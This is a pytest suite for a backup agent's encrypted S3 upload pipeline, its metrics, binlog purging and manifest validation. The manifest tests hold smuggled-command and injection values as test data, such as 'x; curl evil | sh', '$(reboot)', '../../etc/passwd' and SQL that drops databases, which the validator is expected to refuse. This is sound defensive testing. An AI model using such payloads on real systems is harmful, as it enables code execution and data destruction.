"""The backup agent's pipeline, against an in-process S3 (moto) and the real zstd and age:
what it uploads is encrypted to the recipients only, a failed pipeline leaves no manifest,
and the metrics say what happened."""

import json
import shutil
import subprocess

import boto3
import pytest
from moto import mock_aws

from roles.backup import agent

BUCKET = "hastack-test-backups"


@pytest.fixture
def age_key(tmp_path):
    for tool in ("age", "age-keygen", "zstd"):
        assert shutil.which(tool), f"{tool} is not installed (make host-deps installs it)"
    key = tmp_path / "operator.key"
    subprocess.run(["age-keygen", "-o", str(key)], check=True, capture_output=True)
    recipient = subprocess.run(["age-keygen", "-y", str(key)], check=True, capture_output=True, text=True).stdout.strip()
    return key, recipient


@pytest.fixture
def bucket(age_key):
    with mock_aws():
        s3 = boto3.client("s3", region_name="eu-central-1")
        s3.create_bucket(Bucket=BUCKET, CreateBucketConfiguration={"LocationConstraint": "eu-central-1"})
        cfg = {"bucket": BUCKET, "prefix": "backups/prod-db1/", "region": "eu-central-1", "endpoint": None,
               "ca_file": None, "access_key_id": "testing", "secret_access_key": "testing",
               "recipients": [age_key[1]], "host": "prod-db1", "stack": "prod"}
        yield agent.Bucket(cfg), s3, cfg


def _get(s3, key):
    return s3.get_object(Bucket=BUCKET, Key=key)["Body"].read()


def test_a_stream_is_compressed_and_encrypted_to_the_recipients_and_manifested(bucket, age_key, tmp_path):
    b, s3, cfg = bucket
    key = b.key("mariadb-full", "t.xbstream.zst.age")
    payload = b"acknowledged row\n" * 100000
    source = tmp_path / "payload"
    source.write_bytes(payload)
    result = b.put_stream(key, ["cat", str(source)], metadata={"kind": "mariadb-full"})
    b.put_manifest(key, agent._manifest(cfg, "mariadb-full", key, result, gtid="0-1-5"))
    stored = _get(s3, key)
    assert key == "backups/prod-db1/mariadb-full/t.xbstream.zst.age"
    assert stored.startswith(b"age-encryption.org/v1") and payload[:20] not in stored
    assert result["size"] == len(stored) < len(payload) // 10  # zstd before age
    # the operator's key decrypts it; without the key nothing does
    plain = subprocess.run(["age", "-d", "-i", str(age_key[0])], input=stored, capture_output=True, check=True).stdout
    assert subprocess.run(["zstd", "-dc"], input=plain, capture_output=True, check=True).stdout == payload
    other = tmp_path / "other.key"
    subprocess.run(["age-keygen", "-o", str(other)], check=True, capture_output=True)
    refused = subprocess.run(["age", "-d", "-i", str(other)], input=stored, capture_output=True)
    assert refused.returncode != 0 and b"no identity matched" in refused.stderr
    manifest = json.loads(_get(s3, key + ".manifest.json"))
    assert manifest["gtid"] == "0-1-5" and manifest["sha256"] == result["sha256"] and manifest["size"] == len(stored)


def test_a_failed_producer_leaves_no_manifest(bucket):
    b, s3, _ = bucket
    key = b.key("mariadb-full", "broken.xbstream.zst.age")
    with pytest.raises(agent.JobError, match=r"pipeline failed .*has no manifest"):
        b.put_stream(key, ["sh", "-c", "echo partial; echo 'disk full' >&2; exit 3"], metadata={})
    keys = [o["Key"] for o in s3.list_objects_v2(Bucket=BUCKET).get("Contents", [])]
    assert key + ".manifest.json" not in keys


def test_the_copy_position_comes_from_mariabackups_report():
    stderr = ("[00] 2026-11-29 03:15:02 Backup created in directory '/tmp/x'\n"
              "[00] 2026-11-29 03:15:02 MySQL binlog position: filename 'mariadb-bin.000007', position '1234', "
              "GTID of the last change '1-1-40,2-2-17'\n[00] 2026-11-29 03:15:02 completed OK!\n")
    assert agent._mariabackup_gtid(stderr) == "1-1-40,2-2-17"
    with pytest.raises(agent.JobError, match="did not report"):
        agent._mariabackup_gtid("[00] completed OK!\n")


def test_metrics_keep_the_last_success_when_a_run_fails(tmp_path, monkeypatch):
    monkeypatch.setattr(agent, "METRICS_DIR", str(tmp_path))
    agent.write_metrics("mariadb-full", True, {"size": 4096}, 12.5)
    agent.write_metrics("mariadb-full", False, None, 1.0)
    text = (tmp_path / "hastack_backup_mariadb_full.prom").read_text()
    assert 'hastack_backup_last_run_success{kind="mariadb-full"} 0' in text
    assert 'hastack_backup_last_success_size_bytes{kind="mariadb-full"} 4096' in text
    assert 'hastack_backup_last_success_duration_seconds{kind="mariadb-full"} 12.500' in text
    assert "# TYPE hastack_backup_last_success_timestamp_seconds gauge" in text


@pytest.mark.parametrize("shipped, young, expected", [
    ({"b.1", "b.2"}, set(), "b.3"),  # b.3 is not in the bucket yet: it and everything after stay
    ({"b.1", "b.2", "b.3"}, {"b.2"}, "b.2"),  # shipped but younger than the keep time: stays
    (set(), set(), None),  # nothing shipped: nothing leaves the host
])
def test_binlogs_leave_the_host_only_once_shipped_and_old(tmp_path, monkeypatch, shipped, young, expected):
    import os
    import time

    logs = ["b.1", "b.2", "b.3", "b.4"]  # b.4 is being written
    old = time.time() - (agent.KEEP_BINLOG_DAYS + 1) * 86400
    for name in logs:
        (tmp_path / name).write_bytes(b"")
        if name not in young:
            os.utime(tmp_path / name, (old, old))
    queries = []
    monkeypatch.setattr(agent, "_query", lambda conn, sql, args=None: queries.append((sql, args)) or [])
    agent._purge_shipped(None, logs, shipped, str(tmp_path))
    assert queries == ([("PURGE BINARY LOGS TO %s", (expected,))] if expected else [])


def _good_manifests() -> dict[str, dict]:
    """Manifests as the agent writes them, one per kind that carries names and positions."""
    cfg = {"host": "prod-db1", "stack": "prod", "recipients": ["age1x"]}
    result = {"size": 10, "sha256": "a" * 64, "seconds": 0.1}
    base = "backups/prod-db1"
    return {
        f"{base}/mariadb-full/f.zst.age": agent._manifest(
            cfg, "mariadb-full", f"{base}/mariadb-full/f.zst.age", result, gtid="0-1-5,1-2-9", database="hastack",
            checksums={"gtid": "0-1-7", "tables": {"orders": {"rows": 1, "digest": "3"}}}),
        f"{base}/mariadb-binlog/b.zst.age": agent._manifest(
            cfg, "mariadb-binlog", f"{base}/mariadb-binlog/b.zst.age", result, binlog="mysql-bin.000012",
            gtid_start="0-1-5", gtid_end="0-1-9"),
        f"{base}/cassandra-snapshot/c.tar.zst.age": agent._manifest(
            cfg, "cassandra-snapshot", f"{base}/cassandra-snapshot/c.tar.zst.age", result, tag="hastack-1",
            tables={"app.events": {"files": 8, "bytes": 100}}),
    }


def test_a_manifest_as_the_agent_writes_it_is_taken():
    for key, manifest in _good_manifests().items():
        assert agent.checked_manifest(manifest, key) is manifest


@pytest.mark.parametrize("kind, change, field", [
    # names and positions that restores put into shell commands and SQL text, as root
    ("mariadb-binlog", {"binlog": "x; curl evil | sh"}, "binlog"),
    ("mariadb-binlog", {"binlog": "../../etc/passwd"}, "binlog"),
    ("mariadb-binlog", {"gtid_end": "0-1-9' OR '1"}, "gtid_end"),
    ("mariadb-full", {"gtid": "$(reboot)"}, "gtid"),
    ("mariadb-full", {"database": "hastack`; DROP DATABASE mysql; --"}, "database"),
    ("mariadb-full", {"checksums": {"gtid": "0-1-7'; SHUTDOWN; --", "tables": {}}}, "checksums.gtid"),
    ("cassandra-snapshot", {"tag": "-rf"}, "tag"),
    ("cassandra-snapshot", {"tables": {"app.events; DROP KEYSPACE app": {}}}, "table"),
    ("mariadb-full", {"sha256": "not a digest"}, "sha256"),
    # a manifest copied beside another object, or of another kind
    ("mariadb-full", {"object": "backups/prod-db1/mariadb-full/other.zst.age"}, "describes"),
    ("mariadb-binlog", {"kind": "mariadb-full"}, "kind"),
])
def test_a_manifest_with_a_field_out_of_form_is_refused_by_name(kind, change, field):
    key, manifest = next((k, m) for k, m in _good_manifests().items() if m["kind"] == kind)
    with pytest.raises(agent.ManifestError, match=field.replace(".", r"\.")) as refused:
        agent.checked_manifest(manifest | change, key)
    assert key in str(refused.value)


def test_a_restore_refuses_a_tampered_manifest_from_the_bucket(bucket):
    from roles.backup.restore import RestoreError, Source

    b, s3, cfg = bucket
    key = b.key("mariadb-binlog", "b.zst.age")
    manifest = agent._manifest(cfg, "mariadb-binlog", key, {"size": 1, "sha256": "b" * 64, "seconds": 0.0},
                               binlog="mysql-bin.000001; id", gtid_start="0-1-1", gtid_end="0-1-2")
    s3.put_object(Bucket=BUCKET, Key=key + ".manifest.json", Body=json.dumps(manifest).encode())
    source = Source(stack="prod", outputs={"backupBucket": BUCKET}, _client=s3)
    with pytest.raises(RestoreError, match="binlog="):
        source.manifest(key)
